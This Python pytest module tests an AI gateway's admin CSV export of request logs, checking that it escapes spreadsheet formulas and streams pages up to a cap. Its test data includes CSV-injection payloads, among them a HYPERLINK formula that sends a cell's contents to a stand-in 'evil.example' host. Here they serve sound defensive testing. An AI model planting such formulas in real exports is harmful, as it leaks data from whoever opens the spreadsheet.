"""The request-log CSV export (``/admin/v1/requests.csv``): streamed and formula-safe.

Through the real app factory on both profiles, a user name a spreadsheet would run as a
formula comes out as text; and the export is written page by page (a fake read shows
the pages it asks for, the cap, and that nothing is read ahead).
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from litestar.testing import AsyncTestClient

from gateway.admin._csv import csv_export, neutral
from gateway.governance import LogFilter
from tests.integration._admin import WRITE

pytestmark = pytest.mark.integration

FORMULAS = ['=HYPERLINK("evil.example?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]


@pytest.fixture
def client(admin: tuple[AsyncTestClient[Any], Path]) -> AsyncTestClient[Any]:
    """The ``admin`` fixture's client: a fresh gateway (both profiles, built-in mock
    models) with a write token."""
    return admin[0]


async def test_a_formula_in_a_text_cell_is_exported_as_text(
        client: AsyncTestClient[Any]) -> None:
    """Keys whose users start with = + - or @: each such cell is exported with a
    leading ' (OWASP), numbers stay numbers, and the JSON list still has the raw name."""
    w = {"Authorization": f"Bearer {WRITE}"}
    assert (await client.post("/admin/v1/teams", json={"name": "t"}, headers=w)).is_success
    for user in FORMULAS:
        made = await client.post("/admin/v1/keys", json={"team": "t", "user": user},
                                 headers=w)
        assert made.status_code == 201, made.text
        r = await client.post("/v1/chat/completions", json={
            "model": "mock-gpt", "max_tokens": 8,
            "messages": [{"role": "user", "content": "hi"}]},
            headers={"Authorization": f"Bearer {made.json()['secret']}"})
        assert r.status_code == 200, r.text
    exported = await client.get("/admin/v1/requests.csv", headers=w)
    assert exported.status_code == 200 and exported.headers["x-export-row-cap"] == "1000000"
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert sorted(r["user"] for r in rows) == sorted("'" + u for u in FORMULAS)
    assert all(int(r["usd_committed"]) > 0 for r in rows)
    listed = (await client.get("/admin/v1/requests", headers=w)).json()["data"]
    assert sorted(r["user"] for r in listed) == sorted(FORMULAS)


def test_only_text_that_starts_like_a_formula_is_prefixed() -> None:
    """= + - @ tab CR at the start of text: prefixed; elsewhere, or a number: unchanged."""
    assert [neutral(v) for v in ("=1", "+1", "-1", "@a", "\t", "\r")] == [
        "'=1", "'+1", "'-1", "'@a", "'\t", "'\r"]
    assert [neutral(v) for v in ("a=1", "ana@x.org", -5, 0, None, "")] == [
        "a=1", "ana@x.org", -5, 0, None, ""]


class _Row:
    def __init__(self, i: int) -> None:
        self.id = f"p{i:04d}"
        self.created_at = datetime(2026, 12, 1, tzinfo=UTC) - timedelta(seconds=i)


async def test_the_export_reads_one_page_at_a_time_up_to_its_cap() -> None:
    """Ten rows read in pages of 3: each page is asked for after the previous one was
    written, from the previous page's last row; a cap of 7 stops after 7 rows."""
    rows = [_Row(i) for i in range(10)]
    asked: list[tuple[Any, int]] = []

    async def read(f: LogFilter, limit: int) -> list[Any]:
        asked.append((f.before, limit))
        start = 0 if f.before is None else next(
            i for i, r in enumerate(rows) if r.id == f.before[1]) + 1
        return rows[start:start + limit]

    def cells(r: Any) -> list[str]:
        return [r.id]

    chunks = []
    async for chunk in csv_export(read, LogFilter(), columns=["id"], cells=cells,  # type: ignore[arg-type]
                                  page_rows=3):
        chunks.append(chunk)
        assert len(asked) == len(chunks)  # nothing read ahead of what was written
    assert "".join(chunks).split() == ["id"] + [r.id for r in rows]
    assert [b for b, _ in asked] == [None] + [(rows[i].created_at, rows[i].id)
                                             for i in (2, 5, 8)]
    asked.clear()
    capped = [c async for c in csv_export(read, LogFilter(), columns=["id"],  # type: ignore[arg-type]
                                          cells=cells, page_rows=3, max_rows=7)]
    assert "".join(capped).split() == ["id"] + [r.id for r in rows[:7]]
    assert [n for _, n in asked] == [3, 3, 1]


async def test_a_store_failing_at_the_first_page_is_an_error_status(
        client: AsyncTestClient[Any], monkeypatch: pytest.MonkeyPatch) -> None:
    """The first page is read before the answer starts: a store that fails there is the
    admin API's 503 in OpenAI's shape, not a 200 cut short."""
    async def broken(*args: Any, **kwargs: Any) -> Any:
        raise OSError("connection refused")

    governance = client.app.state.gateway.governance
    monkeypatch.setattr(governance, "request_log", broken)
    r = await client.get("/admin/v1/requests.csv",
                         headers={"Authorization": f"Bearer {WRITE}"})
    assert r.status_code == 503, (r.status_code, r.text[:300])
    assert r.json()["error"]["message"]
